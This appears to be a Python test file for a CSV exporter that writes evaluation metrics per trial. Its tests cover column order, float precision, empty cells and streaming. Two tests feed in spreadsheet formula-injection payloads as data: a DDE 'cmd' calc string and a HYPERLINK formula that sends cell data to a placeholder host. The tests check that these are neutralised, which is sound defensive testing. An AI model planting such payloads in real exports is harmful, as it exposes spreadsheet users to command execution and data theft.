"""iter_csv: one row per trial, flattened columns, exact numbers, judges, null scores without items,
neutralised text cells."""

import copy
import csv
import io

import pytest

from layer3.exports.formats import CSV_COLUMNS, iter_csv
from layer3.exports.json_csv import CHUNK_CHARS, CSV_METRIC_PATHS
from tests.layer3.exports.samples import (
    GPT,
    GPT_W2WR,
    ReadOnce,
    error_metrics,
    full_metrics,
    trial,
    without_items,
)

TEXT_COLUMNS = ("gv_judge", "w2wrSemantic_judge", "diversity_outOfCatalogue")
DOCUMENTED_COLUMNS = [
    "id", "modelConfig", "status", "error", "errorPath", "evaluatedAt", "evaluatorModel",
    "gv_totalItems", "gv_evaluatedItems", "gv_notRelevant", "gv_generic", "gv_useful", "gv_avgScore",
    "gv_usefulRate", "gv_judge",
    "w2wrType_totalBindings", "w2wrType_flow", "w2wrType_meta", "w2wrType_sync", "w2wrType_unknown",
    "w2wrType_flowRate", "w2wrType_metaRate", "w2wrType_syncRate",
    "w2wrSemantic_evaluatedBindings", "w2wrSemantic_correct", "w2wrSemantic_redundant", "w2wrSemantic_wrong",
    "w2wrSemantic_avgScore", "w2wrSemantic_correctnessRate", "w2wrSemantic_judge",
    "diversity_uniqueWidgetCount", "diversity_entropy", "diversity_normalizedEntropy", "diversity_maxEntropy",
    "diversity_availableWidgetCount", "diversity_outOfCatalogue",
    "graph_nodeCount", "graph_edgeCount", "graph_density", "graph_avgDegree", "graph_maxDegree",
    "graph_diverge", "graph_organize", "graph_converge", "graph_crossSectionEdges",
    "batch_availableWidgetCount", "batch_outOfCatalogue",
]  # fmt: skip


def read_back(text, *, bom=True):
    if bom:
        assert text.startswith("\ufeff")
        text = text[1:]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    return [dict(zip(header, row, strict=True)) for row in body], header


def lookup(metrics, path):
    for key in path:
        metrics = metrics[key]
    return metrics


def test_the_columns_are_in_the_documented_order():
    assert list(CSV_COLUMNS) == DOCUMENTED_COLUMNS
    text = "".join(iter_csv([]))
    assert text == "\ufeff" + ",".join(DOCUMENTED_COLUMNS) + "\r\n"


def test_every_metric_of_an_evaluated_trial_reads_back_exactly():
    metrics = full_metrics()
    (row,), _ = read_back("".join(iter_csv([trial("t-0001", "A", metrics)])))
    assert row["status"] == "evaluated"
    assert (row["id"], row["modelConfig"], row["error"], row["errorPath"]) == ("t-0001", "A", "", "")
    assert row["evaluatedAt"] == metrics["evaluatedAt"]
    assert row["evaluatorModel"] == "gpt-4o"
    assert {name for name, _ in CSV_METRIC_PATHS} == set(DOCUMENTED_COLUMNS[7:-2]) - set(TEXT_COLUMNS)
    for name, path in CSV_METRIC_PATHS:
        expected = lookup(metrics, path)
        assert float(row[name]) == expected, name
        assert row[name] == repr(expected), name  # no rounding: the shortest exact text
    assert row["gv_judge"] == GPT == "llm:gpt-4o:layer3.gv_relevance@1"
    assert row["w2wrSemantic_judge"] == GPT_W2WR
    assert row["diversity_availableWidgetCount"] == "10"
    assert row["diversity_outOfCatalogue"] == ""


def test_a_trial_without_generated_values_has_empty_scores_not_zero():
    stored = without_items(stored=0)  # stored under the seed's `|| 1` guard
    before = copy.deepcopy(stored)
    (row,), _ = read_back("".join(iter_csv([trial(metrics=stored)])))
    assert stored == before  # the stored dict is read, never changed
    assert row["gv_evaluatedItems"] == "0" and row["gv_useful"] == "0"
    assert row["gv_avgScore"] == row["gv_usefulRate"] == ""
    assert row["w2wrSemantic_evaluatedBindings"] == "0"
    assert row["w2wrSemantic_avgScore"] == row["w2wrSemantic_correctnessRate"] == ""
    assert row["gv_judge"] == GPT and row["w2wrSemantic_judge"] == GPT_W2WR  # judged blocks, with no item
    (new,), _ = read_back("".join(iter_csv([trial(metrics=without_items(stored=None))])))
    assert new == row


def test_a_measured_zero_stays_zero():
    metrics = full_metrics()
    metrics["generatedValueRelevance"].update(distribution={"notRelevant": 6, "generic": 0, "useful": 0})
    metrics["generatedValueRelevance"].update(avgScore=0.0, usefulRate=0.0)
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["gv_avgScore"] == row["gv_usefulRate"] == "0.0"


def test_judge_columns_name_the_judge_of_each_block():
    metrics = full_metrics()
    metrics["generatedValueRelevance"]["judge"] = {
        "kind": "baseline",
        "model": "baseline-tfidf@1",
        "prompt": "layer3.gv_relevance@1",
    }
    del metrics["w2wrSemanticCorrectness"]["judge"]  # stored before judges were recorded
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["gv_judge"] == "baseline:baseline-tfidf@1:layer3.gv_relevance@1"
    assert row["w2wrSemantic_judge"] == "unrecorded"
    del metrics["generatedValueRelevance"]
    metrics["w2wrSemanticCorrectness"] = None
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["gv_judge"] == row["w2wrSemantic_judge"] == ""  # no block, no judge


def test_a_judge_label_that_looks_like_a_formula_is_neutralised():
    metrics = full_metrics()
    metrics["generatedValueRelevance"]["judge"] = {"kind": "=cmd|' /c calc'!A1", "model": "m", "prompt": "p@1"}
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["gv_judge"] == "'=cmd|' /c calc'!A1:m:p@1"


def test_widget_types_outside_the_catalogue_are_listed_space_separated():
    metrics = full_metrics()
    metrics["widgetDiversity"].update(availableWidgetCount=15, outOfCatalogue=["mood_dial", "word_cloud"])
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["diversity_availableWidgetCount"] == "15"
    assert row["diversity_outOfCatalogue"] == "mood_dial word_cloud"
    metrics["widgetDiversity"]["outOfCatalogue"] = ["=1+1", "x"]
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["diversity_outOfCatalogue"] == "'=1+1 x"
    del metrics["widgetDiversity"]["outOfCatalogue"], metrics["widgetDiversity"]["availableWidgetCount"]
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))  # stored before the catalogue was data
    assert row["diversity_outOfCatalogue"] == row["diversity_availableWidgetCount"] == ""


def test_floats_keep_full_precision():
    metrics = full_metrics()
    metrics["widgetDiversity"]["normalizedEntropy"] = 0.1 + 0.2
    metrics["graphComplexity"]["density"] = 1e-7
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["diversity_normalizedEntropy"] == "0.30000000000000004"
    assert float(row["graph_density"]) == 1e-7


def test_an_error_trial_says_why_and_where_and_has_no_metrics():
    message = 'Expected an object, got "x", at line 1\nsecond line'
    (row,), _ = read_back("".join(iter_csv([trial("t-2", "B", error_metrics(message, "generatedData.widgets[2].id"))])))
    assert row["status"] == "error"
    assert row["error"] == message
    assert row["errorPath"] == "generatedData.widgets[2].id"
    assert row["evaluatedAt"] == "2026-11-26T09:59:59.123Z"
    assert all(row[name] == "" for name, _ in CSV_METRIC_PATHS)


def test_an_unevaluated_trial_has_empty_cells():
    (row,), _ = read_back("".join(iter_csv([trial("t-3", "C", None)])))
    assert row["status"] == "unevaluated"
    assert [row[name] for name in DOCUMENTED_COLUMNS[3:]] == [""] * (len(DOCUMENTED_COLUMNS) - 3)


def test_absent_blocks_and_optional_fields_are_empty_cells():
    metrics = full_metrics()
    del metrics["generatedValueRelevance"], metrics["evaluatorModel"]
    del metrics["graphComplexity"]["sectionNodeCounts"], metrics["graphComplexity"]["crossSectionEdges"]
    metrics["w2wrSemanticCorrectness"] = None
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["evaluatorModel"] == ""
    assert row["gv_avgScore"] == row["w2wrSemantic_avgScore"] == row["graph_diverge"] == ""
    assert row["graph_crossSectionEdges"] == ""
    assert row["graph_nodeCount"] == "3"


@pytest.mark.parametrize(
    ("label", "written"),
    [
        ('=HYPERLINK("http://x.example/?a="&A1,"click")', '\'=HYPERLINK("http://x.example/?a="&A1,"click")'),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("A", "A"),
        ("モデルA", "モデルA"),
    ],
)
def test_text_cells_that_look_like_formulas_are_neutralised(label, written):
    (row,), _ = read_back("".join(iter_csv([trial(label, label, error_metrics(label, label))])))
    assert row["id"] == row["modelConfig"] == row["error"] == row["errorPath"] == written


def test_numbers_are_never_prefixed():
    metrics = full_metrics()
    metrics["graphComplexity"]["density"] = -0.5  # not a real density: checks that numbers are not text
    (row,), _ = read_back("".join(iter_csv([trial(metrics=metrics)])))
    assert row["graph_density"] == "-0.5"


def test_lines_end_with_crlf_and_commas_and_quotes_survive():
    text = "".join(iter_csv([trial('a,"b"', "A", None)], bom=False))
    assert text.count("\r\n") == 2
    (row,), _ = read_back(text, bom=False)
    assert row["id"] == 'a,"b"'


def test_without_bom_the_text_starts_with_the_header():
    assert "".join(iter_csv([], bom=False)).startswith("id,modelConfig,status,")


def test_the_header_is_yielded_before_any_trial_is_read():
    trials = ReadOnce(trial(f"t-{i}") for i in range(5))
    chunks = iter_csv(trials)
    first = next(chunks)
    assert trials.read == 0
    assert first == "\ufeff" + ",".join(DOCUMENTED_COLUMNS) + "\r\n"
    rows, _ = read_back(first + "".join(chunks))
    assert [row["id"] for row in rows] == [f"t-{i}" for i in range(5)]


def test_many_trials_are_streamed_in_bounded_chunks_while_reading():
    total = 20_000
    trials = ReadOnce(trial(f"t-{i:05}", "A", full_metrics()) for i in range(total))
    read_when_yielded, sizes, text = [], [], []
    for chunk in iter_csv(trials):
        read_when_yielded.append(trials.read)
        sizes.append(len(chunk))
        text.append(chunk)
    assert read_when_yielded[1] < total
    assert max(sizes) < 2 * CHUNK_CHARS
    rows, _ = read_back("".join(text))
    assert len(rows) == total


def test_layer3_metrics_of_the_wrong_type_names_the_trial():
    with pytest.raises(TypeError, match="t-9"):
        "".join(iter_csv([trial("t-9", "A", ["not", "an", "object"])]))
